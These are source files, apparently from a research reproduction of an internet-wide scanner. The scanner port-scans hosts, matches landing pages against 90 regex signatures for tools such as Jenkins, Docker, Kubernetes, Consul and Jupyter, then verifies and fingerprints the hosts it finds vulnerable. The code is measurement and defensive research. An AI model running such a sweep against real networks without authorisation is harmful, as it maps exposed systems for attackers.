            "transport": transport_state,
            "telemetry": self.telemetry.snapshot_state(),
        }

    def _restore_checkpoint(self, payload: dict) -> tuple[int, int, ScanReport]:
        """Rebuild pipeline state from a checkpoint payload."""
        from repro.core.serialize import report_from_dict

        check_config_matches(
            payload,
            seed=self.seed,
            ports=list(self.ports),
            batch_size=self.batch_size,
        )
        report = report_from_dict(payload["report"])
        stats = self._prefilter.stats
        stats.http_responses = {
            int(k): v for k, v in payload["prefilter"]["http_responses"].items()
        }
        stats.https_responses = {
            int(k): v for k, v in payload["prefilter"]["https_responses"].items()
        }
        stats.responsive_hosts = set(payload["prefilter"]["responsive_hosts"])
        if self.clock is not None and payload["clock_now"] is not None:
            if payload["clock_now"] > self.clock.now:
                self.clock.run_until(payload["clock_now"])
        if self._retry is not None and payload["retry"] is not None:
            self._retry.restore_state(payload["retry"])
        if self.circuit_breaker is not None and payload["breaker"] is not None:
            self.circuit_breaker.restore_state(payload["breaker"])
        restore = getattr(self.transport, "restore_state", None)
        if callable(restore) and payload["transport"] is not None:
            restore(payload["transport"])
        if payload.get("telemetry") is not None:
            self.telemetry.restore_state(payload["telemetry"])
        # The report's coverage block was copied from the live ledger at
        # save time, so restoring it re-seats the cumulative ledger too.
        self._coverage = report.coverage.copy()
        return payload["completed_addresses"], payload["batches_done"], report
