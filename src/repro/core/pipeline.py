"""The three-stage scanning pipeline (orchestration).

Wires stage I (masscan) → stage II (prefilter) → stage III (Tsunami) and
the version fingerprinter together, with the paper's interleaving: the
port scan yields batches, and each batch flows through the later stages
before the sweep continues, "to prevent running the next two stages on
hosts that went offline in the meantime".

The pipeline only sees a :class:`~repro.net.transport.Transport`; it runs
unchanged against the simulator or a real loopback socket.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from typing import Iterable, Sequence

from repro.core.fingerprint.fingerprinter import Fingerprint, VersionFingerprinter
from repro.core.fingerprint.knowledge_base import (
    KnowledgeBase,
    build_default_knowledge_base,
)
from repro.core.masscan import Masscan, PortScanResult
from repro.core.prefilter import Prefilter, PrefilterFinding
from repro.core.tsunami.engine import TsunamiEngine
from repro.core.tsunami.plugin import DetectionReport
from repro.net.http import Scheme
from repro.net.ipv4 import IPv4Address


@dataclass
class AppObservation:
    """Everything the pipeline learned about one application on one host."""

    ip: IPv4Address
    slug: str
    port: int
    scheme: Scheme
    vulnerable: bool = False
    detection: DetectionReport | None = None
    fingerprint: Fingerprint | None = None

    @property
    def version(self) -> str | None:
        return self.fingerprint.version if self.fingerprint else None


@dataclass
class HostFinding:
    """Stage-II/III results for one responsive host."""

    ip: IPv4Address
    observations: dict[str, AppObservation] = field(default_factory=dict)

    @property
    def slugs(self) -> tuple[str, ...]:
        return tuple(sorted(self.observations))

    @property
    def vulnerable_slugs(self) -> tuple[str, ...]:
        return tuple(
            sorted(s for s, o in self.observations.items() if o.vulnerable)
        )


@dataclass
class ScanReport:
    """Aggregate output of one full pipeline run."""

    port_scan: PortScanResult = field(default_factory=PortScanResult)
    http_responses: dict[int, int] = field(default_factory=dict)
    https_responses: dict[int, int] = field(default_factory=dict)
    findings: dict[int, HostFinding] = field(default_factory=dict)
    detections: list[DetectionReport] = field(default_factory=list)

    def finding_for(self, ip: IPv4Address) -> HostFinding:
        finding = self.findings.get(ip.value)
        if finding is None:
            finding = HostFinding(ip)
            self.findings[ip.value] = finding
        return finding

    # -- Table-3-shaped accessors ------------------------------------------

    def hosts_per_app(self) -> dict[str, int]:
        """Hosts running each application (counted once per host)."""
        counts: dict[str, int] = {}
        for finding in self.findings.values():
            for slug in finding.observations:
                counts[slug] = counts.get(slug, 0) + 1
        return counts

    def mavs_per_app(self) -> dict[str, int]:
        counts: dict[str, int] = {}
        for finding in self.findings.values():
            for slug in finding.vulnerable_slugs:
                counts[slug] = counts.get(slug, 0) + 1
        return counts

    def vulnerable_ips(self) -> list[IPv4Address]:
        return [
            finding.ip
            for finding in self.findings.values()
            if finding.vulnerable_slugs
        ]

    def observations(self) -> list[AppObservation]:
        return [
            observation
            for finding in self.findings.values()
            for observation in finding.observations.values()
        ]

    def total_awe_hosts(self) -> int:
        return len(self.findings)

    def merge(self, other: "ScanReport") -> None:
        self.port_scan.merge(other.port_scan)
        for port, count in other.http_responses.items():
            self.http_responses[port] = self.http_responses.get(port, 0) + count
        for port, count in other.https_responses.items():
            self.https_responses[port] = self.https_responses.get(port, 0) + count
        self.findings.update(other.findings)
        self.detections.extend(other.detections)


@dataclass
class ScanPipeline:
    """Configurable three-stage pipeline."""

    transport: object  # Transport; typed loosely to avoid import cycles in docs
    ports: tuple[int, ...]
    seed: int = 0
    batch_size: int = 4096
    fingerprint: bool = True
    use_prefilter: bool = True
    knowledge_base: KnowledgeBase | None = None

    def __post_init__(self) -> None:
        self._masscan = Masscan(
            self.transport, self.ports, rng=random.Random(self.seed)
        )
        self._prefilter = Prefilter(self.transport)
        self._engine = TsunamiEngine(self.transport)
        if self.fingerprint:
            kb = self.knowledge_base or build_default_knowledge_base()
            self._fingerprinter = VersionFingerprinter(self.transport, kb)
        else:
            self._fingerprinter = None

    @property
    def engine(self) -> TsunamiEngine:
        return self._engine

    @property
    def prefilter(self) -> Prefilter:
        return self._prefilter

    def run(self, candidates: Iterable[IPv4Address]) -> ScanReport:
        """Sweep ``candidates`` through all three stages."""
        report = ScanReport()
        for batch in self._masscan.scan_in_batches(candidates, self.batch_size):
            report.port_scan.merge(batch)
            self._run_later_stages(batch, report)
        self._fold_prefilter_stats(report)
        return report

    def rescan_hosts(
        self, addresses: Sequence[IPv4Address], ports_by_host: dict[int, tuple[int, ...]] | None = None
    ) -> ScanReport:
        """Re-scan known hosts (the observer's three-hourly sweep).

        Skips stage I's full port matrix when the interesting ports are
        already known from a previous scan.
        """
        report = ScanReport()
        scan = PortScanResult()
        for ip in addresses:
            ports = (
                ports_by_host.get(ip.value, self.ports)
                if ports_by_host
                else self.ports
            )
            open_ports = [p for p in ports if self.transport.syn_probe(ip, p)]
            scan.addresses_scanned += 1
            scan.probes_sent += len(ports)
            scan.record(ip, open_ports)
        report.port_scan.merge(scan)
        self._run_later_stages(scan, report)
        self._fold_prefilter_stats(report)
        return report

    # -- internals -----------------------------------------------------------

    def _run_later_stages(self, batch: PortScanResult, report: ScanReport) -> None:
        if self.use_prefilter:
            findings = self._prefilter.run(batch)
        else:
            findings = self._probe_without_prefilter(batch)
        for finding in findings:
            self._verify_and_fingerprint(finding, report)

    def _probe_without_prefilter(self, batch: PortScanResult) -> list[PrefilterFinding]:
        """Ablation mode: skip signature matching, try *every* plugin.

        Stage II still has to discover which scheme the port speaks, but
        instead of narrowing candidates it hands every open port to every
        plugin — the configuration the prefilter ablation measures.
        """
        from repro.util.errors import TransportError

        all_slugs = tuple(p.slug for p in self._engine.plugins)
        findings = []
        for ip in batch.hosts_with_open_ports():
            for port in batch.ports_of(ip):
                for scheme in self._prefilter.schemes_for_port(port):
                    try:
                        response = self.transport.get(ip, port, "/", scheme)
                    except TransportError:
                        continue
                    self._prefilter.stats.note(ip, port, scheme)
                    findings.append(
                        PrefilterFinding(ip, port, scheme, all_slugs, response.body)
                    )
        return findings

    def _verify_and_fingerprint(
        self, finding: PrefilterFinding, report: ScanReport
    ) -> None:
        host_finding = report.finding_for(finding.ip)
        detections = self._engine.scan_target(
            finding.ip, finding.port, finding.scheme, finding.candidates
        )
        detected_slugs = {d.slug for d in detections}
        report.detections.extend(
            d for d in detections
            if not (
                d.slug in host_finding.observations
                and host_finding.observations[d.slug].vulnerable
            )
        )

        fingerprint = None
        if self._fingerprinter is not None:
            fingerprint = self._fingerprinter.fingerprint(
                finding.ip, finding.port, finding.scheme, finding.candidates
            )

        # Attribute the host to application(s): a fingerprint pins the
        # slug; otherwise every stage-II candidate remains attributed
        # (multiple candidates on one body are rare and stage III keeps
        # the vulnerable bit per-application anyway).
        slugs: tuple[str, ...]
        if fingerprint is not None:
            slugs = (fingerprint.slug,)
        else:
            slugs = finding.candidates
        for slug in slugs:
            observation = host_finding.observations.get(slug)
            if observation is None:
                observation = AppObservation(
                    finding.ip, slug, finding.port, finding.scheme
                )
                host_finding.observations[slug] = observation
            if slug in detected_slugs:
                observation.vulnerable = True
                observation.detection = next(
                    d for d in detections if d.slug == slug
                )
            if fingerprint is not None and fingerprint.slug == slug:
                observation.fingerprint = fingerprint
        # Detections for slugs the fingerprinter excluded still count.
        for detection in detections:
            if detection.slug not in host_finding.observations:
                observation = AppObservation(
                    finding.ip, detection.slug, finding.port, finding.scheme,
                    vulnerable=True, detection=detection,
                )
                host_finding.observations[detection.slug] = observation

    def _fold_prefilter_stats(self, report: ScanReport) -> None:
        for port, count in self._prefilter.stats.http_responses.items():
            report.http_responses[port] = count
        for port, count in self._prefilter.stats.https_responses.items():
            report.https_responses[port] = count
