"""Stage II: HTTP(S) probing and signature prefiltering.

For every open port found by stage I, this stage

1. determines which protocols the port speaks — HTTP only on port 80,
   HTTPS only on 443, both attempted elsewhere (the paper's rule);
2. follows redirects until a response body arrives;
3. matches the body against the signature corpus below; hosts matching no
   signature are discarded, the rest move on to stage III with their
   candidate application list.

The corpus holds 90 hand-written signatures, five per in-scope
application, mirroring the paper's "90 such signatures, an average of 5
per application".  Signatures are deliberately loose — their job is cheap
*candidate selection*, not vulnerability detection; several may fire on
one body (both Jupyter products share markup, for instance) and stage III
disambiguates.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

from repro.core.masscan import PortScanResult
from repro.core.retry import RetryExecutor
from repro.net.http import HttpResponse, Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.transport import Transport
from repro.obs.telemetry import Telemetry
from repro.util.errors import TransportError

#: signature corpus: slug -> five regular expressions.
SIGNATURES: dict[str, tuple[str, ...]] = {
    "jenkins": (
        r"Dashboard \[Jenkins\]",
        r"hudson-behavior\.js",
        r"Sign in \[Jenkins\]",
        r"j_spring_security_check",
        r"Welcome to Jenkins",
    ),
    "gocd": (
        r"Create a pipeline - Go",
        r"/go/assets/",
        r"pipelines-page",
        r"Login - Go</title>",
        r"/go/admin/pipelines",
    ),
    "wordpress": (
        r"wp-json",
        r"wp-includes/",
        r"wp-admin/install\.php",
        r'content="WordPress',
        r"WordPress &rsaquo;",
    ),
    "grav": (
        r"The Admin plugin has been installed",
        r"/user/plugins/admin/",
        r"grav-site",
        r"No user accounts found",
        r"<title>Grav",
    ),
    "joomla": (
        r"Joomla! Web Installer",
        r'content="Joomla!',
        r"/media/jui/js/",
        r"/media/system/js/core\.js",
        r"joomla-site",
    ),
    "drupal": (
        r'content="Drupal',
        r"/core/misc/drupal\.js",
        r"data-drupal-selector",
        r"\| Drupal</title>",
        r"Set up\s*database",
    ),
    "kubernetes": (
        r"certificates\.k8s\.io",
        r"healthz/ping",
        r'"kind":\s*"Status"',
        r'"apiVersion":\s*"v1"',
        r'"gitVersion":\s*"v1\.',
    ),
    "docker": (
        r'\{"message":"page not found"\}',
        r'"MinAPIVersion"',
        r'"KernelVersion"',
        r"client certificate required",
        r'"ApiVersion"',
    ),
    "consul": (
        r"Consul by HashiCorp",
        r"CONSUL_VERSION",
        r"consul-ui",
        r'"Datacenter"',
        r"EnableLocalScriptChecks|EnableRemoteScriptChecks",
    ),
    "hadoop": (
        r"/static/yarn\.css",
        r"Apache Hadoop",
        r"ResourceManager",
        r"[Ll]ogged in as: dr\.who",
        r"hadoop-st\.png",
    ),
    "nomad": (
        r"<title>Nomad</title>",
        r"Nomad by HashiCorp",
        r"nomad-ui\.js",
        r'"JobSummary"',
        r"#nomad-ui|id=\"nomad-ui\"",
    ),
    "jupyterlab": (
        r"<title>JupyterLab</title>",
        r'data-product="JupyterLab"',
        r"JupyterLab Login",
        r'"product": "JupyterLab"',
        r"jupyter-main-app.*JupyterLab",
    ),
    "jupyter-notebook": (
        r"<title>Jupyter Notebook</title>",
        r'data-product="Jupyter Notebook"',
        r"Jupyter Notebook Login",
        r'"product": "Jupyter Notebook"',
        r"jupyter-main-app.*Jupyter Notebook",
    ),
    "zeppelin": (
        r"<title>Zeppelin</title>",
        r"zeppelinWebApp",
        r"zeppelin-home",
        r"Welcome to Zeppelin!",
        r'\{"status":"OK",',
    ),
    "polynote": (
        r"<title>Polynote</title>",
        r'class="polynote"',
        r"/static/dist/main\.js",
        r'id="Main"',
        r"polynote\.css",
    ),
    "ajenti": (
        r"<title>Ajenti</title>",
        r"<title>Login - Ajenti</title>",
        r'ng-app="ajenti\.core"',
        r"ajentiPlatformUnmapped",
        r"Ajenti server admin panel",
    ),
    "phpmyadmin": (
        r"phpMyAdmin",
        r"pma_username",
        r"pmahomme",
        r"Server connection collation",
        r"phpMyAdmin documentation",
    ),
    "adminer": (
        r"<title>Login - Adminer</title>",
        r"Adminer <span",
        r"adminer\.css",
        r"Logged as:",
        r"through PHP extension",
    ),
}

_COMPILED: dict[str, tuple[re.Pattern[str], ...]] = {
    slug: tuple(re.compile(pattern) for pattern in patterns)
    for slug, patterns in SIGNATURES.items()
}


def signature_count() -> int:
    """Total signatures in the corpus (the paper reports 90)."""
    return sum(len(patterns) for patterns in SIGNATURES.values())


def match_signatures(body: str) -> tuple[str, ...]:
    """Candidate application slugs whose signatures fire on ``body``."""
    matches = [
        slug
        for slug, patterns in _COMPILED.items()
        if any(pattern.search(body) for pattern in patterns)
    ]
    return tuple(matches)


@dataclass(frozen=True)
class PrefilterFinding:
    """An open port whose body matched at least one signature."""

    ip: IPv4Address
    port: int
    scheme: Scheme
    candidates: tuple[str, ...]
    body: str


@dataclass
class PrefilterStats:
    """Stage-II accounting, reproduced in Table 2's response columns."""

    http_responses: dict[int, int] = field(default_factory=dict)
    https_responses: dict[int, int] = field(default_factory=dict)
    #: ips (values) that produced at least one HTTP(S) response
    responsive_hosts: set[int] = field(default_factory=set)

    def note(self, ip: IPv4Address, port: int, scheme: Scheme) -> None:
        counts = self.http_responses if scheme is Scheme.HTTP else self.https_responses
        counts[port] = counts.get(port, 0) + 1
        self.responsive_hosts.add(ip.value)


class Prefilter:
    """Stage-II prober."""

    def __init__(
        self,
        transport: Transport,
        max_redirects: int = 5,
        retry: RetryExecutor | None = None,
        telemetry: Telemetry | None = None,
    ) -> None:
        self.transport = transport
        self.max_redirects = max_redirects
        self.retry = retry
        self.telemetry = telemetry
        self.stats = PrefilterStats()

    def schemes_for_port(self, port: int) -> tuple[Scheme, ...]:
        if port == 80:
            return (Scheme.HTTP,)
        if port == 443:
            return (Scheme.HTTPS,)
        return (Scheme.HTTP, Scheme.HTTPS)

    def probe(self, ip: IPv4Address, port: int) -> list[PrefilterFinding]:
        """Probe one open port on every applicable scheme."""
        findings = []
        for scheme in self.schemes_for_port(port):
            try:
                response = self.fetch_landing(ip, port, scheme)
            except TransportError:
                continue
            self.stats.note(ip, port, scheme)
            finding = self.evaluate(ip, port, scheme, response)
            if finding is not None:
                findings.append(finding)
        return findings

    def fetch_landing(self, ip: IPv4Address, port: int, scheme: Scheme) -> HttpResponse:
        """The stage-II landing-page GET, retried when a policy is set."""
        def attempt() -> HttpResponse:
            return self.transport.get(
                ip, port, "/", scheme, follow_redirects=self.max_redirects
            )

        counter = (
            self.telemetry.metrics.counter if self.telemetry is not None else None
        )
        if counter is not None:
            counter("prefilter_fetches_total", scheme=scheme.value).inc()
        try:
            if self.retry is not None:
                response = self.retry.call(ip, attempt)
            else:
                response = attempt()
        except TransportError:
            if counter is not None:
                counter("prefilter_fetch_failures_total", scheme=scheme.value).inc()
            raise
        if counter is not None:
            counter("prefilter_responses_total", scheme=scheme.value).inc()
        return response

    def evaluate(
        self, ip: IPv4Address, port: int, scheme: Scheme, response: HttpResponse
    ) -> PrefilterFinding | None:
        candidates = match_signatures(response.body)
        if self.telemetry is not None:
            if candidates:
                self.telemetry.metrics.counter(
                    "prefilter_signature_matches_total"
                ).inc()
                self.telemetry.events.debug(
                    "prefilter", "signature-match", host=ip,
                    port=port, candidates=list(candidates),
                )
            else:
                self.telemetry.metrics.counter("prefilter_no_match_total").inc()
        if not candidates:
            return None
        return PrefilterFinding(ip, port, scheme, candidates, response.body)

    def run(self, port_scan: PortScanResult) -> list[PrefilterFinding]:
        """Probe every (host, open port) pair from stage I."""
        findings = []
        for ip in port_scan.hosts_with_open_ports():
            for port in port_scan.ports_of(ip):
                findings.extend(self.probe(ip, port))
        return findings
