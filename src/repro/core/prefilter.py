"""Stage II: HTTP(S) probing and signature prefiltering.

For every open port found by stage I, this stage

1. determines which protocols the port speaks — HTTP only on port 80,
   HTTPS only on 443, both attempted elsewhere (the paper's rule);
2. follows redirects until a response body arrives;
3. matches the body against the signature corpus below; hosts matching no
   signature are discarded, the rest move on to stage III with their
   candidate application list.

The corpus holds 90 hand-written signatures, five per in-scope
application, mirroring the paper's "90 such signatures, an average of 5
per application".  Signatures are deliberately loose — their job is cheap
*candidate selection*, not vulnerability detection; several may fire on
one body (both Jupyter products share markup, for instance) and stage III
disambiguates.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

from repro.core.masscan import PortScanResult
from repro.core.retry import RetryExecutor
from repro.net.http import HttpResponse, Scheme
from repro.net.ipv4 import IPv4Address
from repro.net.transport import Transport
from repro.obs.telemetry import Telemetry
from repro.util.errors import TransportError

#: signature corpus: slug -> five regular expressions.
SIGNATURES: dict[str, tuple[str, ...]] = {
    "jenkins": (
        r"Dashboard \[Jenkins\]",
        r"hudson-behavior\.js",
        r"Sign in \[Jenkins\]",
        r"j_spring_security_check",
        r"Welcome to Jenkins",
    ),
    "gocd": (
        r"Create a pipeline - Go",
        r"/go/assets/",
        r"pipelines-page",
        r"Login - Go</title>",
        r"/go/admin/pipelines",
    ),
    "wordpress": (
        r"wp-json",
        r"wp-includes/",
        r"wp-admin/install\.php",
        r'content="WordPress',
        r"WordPress &rsaquo;",
    ),
    "grav": (
        r"The Admin plugin has been installed",
        r"/user/plugins/admin/",
        r"grav-site",
        r"No user accounts found",
        r"<title>Grav",
    ),
    "joomla": (
        r"Joomla! Web Installer",
        r'content="Joomla!',
        r"/media/jui/js/",
        r"/media/system/js/core\.js",
        r"joomla-site",
    ),
    "drupal": (
        r'content="Drupal',
        r"/core/misc/drupal\.js",
        r"data-drupal-selector",
        r"\| Drupal</title>",
        r"Set up\s*database",
    ),
    "kubernetes": (
        r"certificates\.k8s\.io",
        r"healthz/ping",
        r'"kind":\s*"Status"',
        r'"apiVersion":\s*"v1"',
        r'"gitVersion":\s*"v1\.',
    ),
    "docker": (
        r'\{"message":"page not found"\}',
        r'"MinAPIVersion"',
        r'"KernelVersion"',
        r"client certificate required",
        r'"ApiVersion"',
    ),
    "consul": (
        r"Consul by HashiCorp",
        r"CONSUL_VERSION",
        r"consul-ui",
        r'"Datacenter"',
        r"EnableLocalScriptChecks|EnableRemoteScriptChecks",
    ),
    "hadoop": (
        r"/static/yarn\.css",
        r"Apache Hadoop",
        r"ResourceManager",
        r"[Ll]ogged in as: dr\.who",
        r"hadoop-st\.png",
    ),
    "nomad": (
        r"<title>Nomad</title>",
        r"Nomad by HashiCorp",
        r"nomad-ui\.js",
        r'"JobSummary"',
        r"#nomad-ui|id=\"nomad-ui\"",
    ),
    "jupyterlab": (
        r"<title>JupyterLab</title>",
        r'data-product="JupyterLab"',
        r"JupyterLab Login",
        r'"product": "JupyterLab"',
        r"jupyter-main-app.*JupyterLab",
    ),
    "jupyter-notebook": (
        r"<title>Jupyter Notebook</title>",
        r'data-product="Jupyter Notebook"',
        r"Jupyter Notebook Login",
        r'"product": "Jupyter Notebook"',
        r"jupyter-main-app.*Jupyter Notebook",
    ),
    "zeppelin": (
        r"<title>Zeppelin</title>",
        r"zeppelinWebApp",
        r"zeppelin-home",
        r"Welcome to Zeppelin!",
        r'\{"status":"OK",',
    ),
    "polynote": (
        r"<title>Polynote</title>",
        r'class="polynote"',
        r"/static/dist/main\.js",
        r'id="Main"',
        r"polynote\.css",
    ),
    "ajenti": (
        r"<title>Ajenti</title>",
        r"<title>Login - Ajenti</title>",
        r'ng-app="ajenti\.core"',
        r"ajentiPlatformUnmapped",
        r"Ajenti server admin panel",
    ),
    "phpmyadmin": (
        r"phpMyAdmin",
        r"pma_username",
        r"pmahomme",
        r"Server connection collation",
        r"phpMyAdmin documentation",
    ),
    "adminer": (
        r"<title>Login - Adminer</title>",
        r"Adminer <span",
        r"adminer\.css",
        r"Logged as:",
        r"through PHP extension",
    ),
}

_COMPILED: dict[str, tuple[re.Pattern[str], ...]] = {
    slug: tuple(re.compile(pattern) for pattern in patterns)
    for slug, patterns in SIGNATURES.items()
}


def signature_count() -> int:
    """Total signatures in the corpus (the paper reports 90)."""
    return sum(len(patterns) for patterns in SIGNATURES.values())


# -- single-pass matching -----------------------------------------------------
#
# Testing every body against up to 90 regexes one at a time made stage II
# the prefilter's hot path.  The rewrite compiles the whole corpus into
# ONE alternation regex with named groups and guards it with a cheap
# guaranteed-literal prescan:
#
# 1. *prescan* — for every signature, a literal substring that appears in
#    every possible match is extracted from the parsed pattern (for
#    top-level alternations, one literal per branch).  ``literal in
#    body`` is a C-level substring search, so a body that cannot match
#    anything is rejected without running a single regex;
# 2. *exact literals* — most signatures are nothing but an escaped
#    literal, so a prescan hit already *is* the match;
# 3. *confirmation* — the few signatures the prescan cannot decide are
#    verified by their own compiled regex.  When a pathological body
#    leaves many signatures undecided, one ``finditer`` pass over the
#    combined alternation resolves them in a single scan first;
# 4. *shadowing fallback* — ``finditer`` yields non-overlapping matches,
#    so a signature whose only match starts inside a region consumed by
#    an earlier alternative would be missed.  Any prescan-hit signature
#    the single pass did not confirm is re-checked individually; the
#    guaranteed literal bounds this to signatures that plausibly match.
#
# Why the alternation is the *cold* path: sre's backtracking engine tries
# the 90 branches at every position (no Aho-Corasick-style factoring), so
# a full alternation scan measures ~20x SLOWER than 90 C-level substring
# probes.  The prescan therefore carries the hot path and the alternation
# only batch-resolves bodies with many undecided candidates.
#
# The result is bit-identical to the one-regex-at-a-time reference
# (``match_signatures_naive``), which the regression tests pin over the
# full canned-page corpus.

_parser = re._parser  # the stdlib sre parser (``sre_parse``'s new home)

#: literal runs shorter than this are useless as prescan anchors
_MIN_LITERAL = 3


def _literal_runs(ops) -> tuple[list[str], bool]:
    """Maximal literal runs of a parsed op sequence, plus purity.

    The second element is True when the sequence is literals only, i.e.
    the (sub)pattern matches exactly one string.
    """
    runs: list[str] = []
    current: list[str] = []
    pure = True
    for op, arg in ops:
        if op is _parser.LITERAL:
            current.append(chr(arg))
        else:
            pure = False
            if current:
                runs.append("".join(current))
                current = []
    if current:
        runs.append("".join(current))
    return runs, pure


def _guaranteed_literals(pattern: str) -> tuple[tuple[str, ...], bool]:
    """``(prescan alternatives, exact)`` for one signature pattern.

    A body can only match the pattern if at least one alternative occurs
    in it as a substring.  ``exact`` means the reverse implication holds
    too (the pattern is an alternation of plain literals), so a prescan
    hit needs no regex confirmation.  ``((), False)`` means no literal
    guarantee could be extracted and the signature must always be
    verified by regex.
    """
    try:
        ops = list(_parser.parse(pattern))
    except re.error:  # pragma: no cover - corpus patterns always compile
        return (), False
    if len(ops) == 1 and ops[0][0] is _parser.BRANCH:
        alternatives: list[str] = []
        exact = True
        for branch in ops[0][1][1]:
            runs, pure = _literal_runs(list(branch))
            longest = max(runs, key=len, default="")
            if len(longest) < _MIN_LITERAL:
                return (), False  # one unguarded branch voids the guarantee
            alternatives.append(longest)
            exact = exact and pure
        return tuple(alternatives), exact
    runs, pure = _literal_runs(ops)
    longest = max(runs, key=len, default="")
    if len(longest) < _MIN_LITERAL:
        return (), False
    return (longest,), pure


@dataclass(frozen=True)
class _Signature:
    """One corpus pattern, prepared for single-pass matching."""

    group: str                  # its named group in the alternation
    slug: str
    compiled: re.Pattern[str]
    prescan: tuple[str, ...]    # literal alternatives; () = always verify
    exact: bool                 # prescan hit == match, no regex needed


class SignatureMatcher:
    """Single-pass candidate selection over a signature corpus.

    Matches a body against every signature with (at most) one scan of
    the combined alternation instead of up to one scan per signature.
    Signature patterns must not contain named groups of their own — the
    alternation's group names are how matches are attributed.
    """

    def __init__(self, signatures: dict[str, tuple[str, ...]]) -> None:
        self.signatures = signatures
        entries: list[_Signature] = []
        parts: list[str] = []
        for slug, patterns in signatures.items():
            for pattern in patterns:
                group = f"g{len(entries)}"
                alternatives, exact = _guaranteed_literals(pattern)
                entries.append(_Signature(
                    group, slug, re.compile(pattern), alternatives, exact,
                ))
                parts.append(f"(?P<{group}>{pattern})")
        self._entries = tuple(entries)
        self._by_group = {entry.group: entry for entry in entries}
        self._alternation = re.compile("|".join(parts))
        self._unguarded = tuple(e for e in entries if not e.prescan)
        # literal -> what a hit proves: slugs matched outright, and
        # entries that still need their own regex to confirm.
        self._literals = tuple(dict.fromkeys(
            literal for entry in entries for literal in entry.prescan
        ))
        exact_by_literal: dict[str, list[str]] = {}
        confirm_by_literal: dict[str, list[_Signature]] = {}
        for entry in entries:
            for literal in entry.prescan:
                if entry.exact:
                    exact_by_literal.setdefault(literal, []).append(entry.slug)
                else:
                    confirm_by_literal.setdefault(literal, []).append(entry)
        self._exact_by_literal = {
            literal: tuple(slugs) for literal, slugs in exact_by_literal.items()
        }
        self._confirm_by_literal = {
            literal: tuple(sigs) for literal, sigs in confirm_by_literal.items()
        }

    #: above this many undecided signatures, one alternation scan beats
    #: per-signature confirmation (measured on the canned-page corpus)
    _ALTERNATION_CUTOVER = 16

    def match(self, body: str) -> tuple[str, ...]:
        """Candidate slugs, in corpus order — same contract as the naive
        reference implementation."""
        matched: set[str] = set()
        confirm: list[_Signature] = []
        exact_by_literal = self._exact_by_literal
        confirm_by_literal = self._confirm_by_literal
        for literal in self._literals:
            if literal in body:
                slugs = exact_by_literal.get(literal)
                if slugs is not None:
                    matched.update(slugs)
                entries = confirm_by_literal.get(literal)
                if entries is not None:
                    confirm.extend(entries)
        if self._unguarded:
            confirm.extend(self._unguarded)
        if confirm:
            if len(confirm) > self._ALTERNATION_CUTOVER:
                for found in self._alternation.finditer(body):
                    matched.add(self._by_group[found.lastgroup].slug)
            for entry in confirm:
                if entry.slug not in matched and entry.compiled.search(body):
                    matched.add(entry.slug)
        if not matched:
            return ()
        return tuple(slug for slug in self.signatures if slug in matched)


_MATCHER = SignatureMatcher(SIGNATURES)


def match_signatures(body: str) -> tuple[str, ...]:
    """Candidate application slugs whose signatures fire on ``body``."""
    return _MATCHER.match(body)


def match_signatures_naive(body: str) -> tuple[str, ...]:
    """Reference implementation: one regex at a time, up to 90 scans.

    Kept as the ground truth the single-pass matcher is regression-tested
    against (and as the baseline the throughput bench times).
    """
    matches = [
        slug
        for slug, patterns in _COMPILED.items()
        if any(pattern.search(body) for pattern in patterns)
    ]
    return tuple(matches)


@dataclass(frozen=True)
class PrefilterFinding:
    """An open port whose body matched at least one signature."""

    ip: IPv4Address
    port: int
    scheme: Scheme
    candidates: tuple[str, ...]
    body: str


@dataclass
class PrefilterStats:
    """Stage-II accounting, reproduced in Table 2's response columns."""

    http_responses: dict[int, int] = field(default_factory=dict)
    https_responses: dict[int, int] = field(default_factory=dict)
    #: ips (values) that produced at least one HTTP(S) response
    responsive_hosts: set[int] = field(default_factory=set)

    def note(self, ip: IPv4Address, port: int, scheme: Scheme) -> None:
        counts = self.http_responses if scheme is Scheme.HTTP else self.https_responses
        counts[port] = counts.get(port, 0) + 1
        self.responsive_hosts.add(ip.value)


class Prefilter:
    """Stage-II prober."""

    def __init__(
        self,
        transport: Transport,
        max_redirects: int = 5,
        retry: RetryExecutor | None = None,
        telemetry: Telemetry | None = None,
    ) -> None:
        self.transport = transport
        self.max_redirects = max_redirects
        self.retry = retry
        self.telemetry = telemetry
        self.stats = PrefilterStats()

    def schemes_for_port(self, port: int) -> tuple[Scheme, ...]:
        if port == 80:
            return (Scheme.HTTP,)
        if port == 443:
            return (Scheme.HTTPS,)
        return (Scheme.HTTP, Scheme.HTTPS)

    def probe(self, ip: IPv4Address, port: int) -> list[PrefilterFinding]:
        """Probe one open port on every applicable scheme."""
        findings = []
        for scheme in self.schemes_for_port(port):
            try:
                response = self.fetch_landing(ip, port, scheme)
            except TransportError:
                continue
            self.stats.note(ip, port, scheme)
            finding = self.evaluate(ip, port, scheme, response)
            if finding is not None:
                findings.append(finding)
        return findings

    def fetch_landing(self, ip: IPv4Address, port: int, scheme: Scheme) -> HttpResponse:
        """The stage-II landing-page GET, retried when a policy is set."""
        def attempt() -> HttpResponse:
            return self.transport.get(
                ip, port, "/", scheme, follow_redirects=self.max_redirects
            )

        counter = (
            self.telemetry.metrics.counter if self.telemetry is not None else None
        )
        if counter is not None:
            counter("prefilter_fetches_total", scheme=scheme.value).inc()
        try:
            if self.retry is not None:
                response = self.retry.call(ip, attempt)
            else:
                response = attempt()
        except TransportError:
            if counter is not None:
                counter("prefilter_fetch_failures_total", scheme=scheme.value).inc()
            raise
        if counter is not None:
            counter("prefilter_responses_total", scheme=scheme.value).inc()
        return response

    def evaluate(
        self, ip: IPv4Address, port: int, scheme: Scheme, response: HttpResponse
    ) -> PrefilterFinding | None:
        candidates = match_signatures(response.body)
        if self.telemetry is not None:
            if candidates:
                self.telemetry.metrics.counter(
                    "prefilter_signature_matches_total"
                ).inc()
                self.telemetry.events.debug(
                    "prefilter", "signature-match", host=ip,
                    port=port, candidates=list(candidates),
                )
            else:
                self.telemetry.metrics.counter("prefilter_no_match_total").inc()
        if not candidates:
            return None
        return PrefilterFinding(ip, port, scheme, candidates, response.body)

    def run(self, port_scan: PortScanResult) -> list[PrefilterFinding]:
        """Probe every (host, open port) pair from stage I."""
        findings = []
        for ip in port_scan.hosts_with_open_ports():
            for port in port_scan.ports_of(ip):
                findings.extend(self.probe(ip, port))
        return findings
