"""Scan cost model: can the sweep finish "in less than one day"?

The paper sizes its infrastructure explicitly: 64 machines with 48 cores
